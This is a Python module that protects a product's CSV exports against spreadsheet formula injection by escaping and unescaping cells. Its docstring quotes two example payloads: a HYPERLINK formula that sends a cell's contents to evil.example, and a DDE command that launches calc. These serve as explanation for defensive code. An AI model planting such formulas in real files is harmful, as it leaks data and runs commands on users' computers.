"""Spreadsheet-safe CSV: every CSV Nurture writes goes through `csv_writer`, every one it reads
through `read_back`.

A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and
tab or carriage return can hide such a start (OWASP "CSV Injection"): a contact named
`=HYPERLINK("https://evil.example/?"&A2,"Click")` or `+cmd|' /C calc'!A0` in an export or a
rejects file would run on a staff member's computer. OWASP's remedy is to prefix such a cell with
an apostrophe, so the spreadsheet shows it as text. A plain number (`-12`, `+13105550101`, `2.5`)
is left as it is: it evaluates to itself and can call nothing, and a phone column of `'+1...`
would only get in staff's way.

Exports and rejects files are meant to be imported again (a rejects file after its rows are
fixed), so the escape is reversible: `read_back` removes the one apostrophe `escape_cell` added,
and only that one, and the importer applies it to every cell it reads. A value that itself
starts with apostrophes before one of those characters gets one more apostrophe, so that
`read_back(escape_cell(text)) == text` for every text. A cell like `O'Brien` or `'quoted'` is
never touched. In a spreadsheet the added apostrophe may show; it is safe to leave it there or
delete it when fixing a row.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

#: Characters that make a spreadsheet read a cell as a formula (OWASP CSV Injection).
FORMULA_STARTS = frozenset({"=", "+", "-", "@", "\t", "\r"})
APOSTROPHE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?", re.ASCII)


def _escaped_shape(text: str) -> bool:
    """Zero or more apostrophes, then a formula character."""
    return text.lstrip(APOSTROPHE)[:1] in FORMULA_STARTS


def escape_cell(value: object) -> object:
    """The cell to write: text that a spreadsheet would run gets a leading apostrophe.
    Numbers, dates and other non-text values are written as they are."""
    if isinstance(value, str) and _escaped_shape(value) and not _PLAIN_NUMBER.fullmatch(value):
        return APOSTROPHE + value
    return value


def read_back(text: str) -> str:
    """The value `escape_cell` was given: drops the one apostrophe it added, nothing else."""
    if text[:1] == APOSTROPHE and _escaped_shape(text):
        return text[1:]
    return text


def read_back_row(values: list[str]) -> list[str]:
    """`read_back` on each cell of a row read from a CSV."""
    return [read_back(value) if value[:1] == APOSTROPHE else value for value in values]


class SafeCsvWriter:
    """csv.writer with every cell passed through `escape_cell` (same dialect arguments)."""

    def __init__(self, out: IO[str], **dialect: Any) -> None:
        self._writer = csv.writer(out, **dialect)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([escape_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **dialect: Any) -> SafeCsvWriter:
    """The one way Nurture writes a CSV (a test fails on any other csv.writer in the product)."""
    return SafeCsvWriter(out, **dialect)
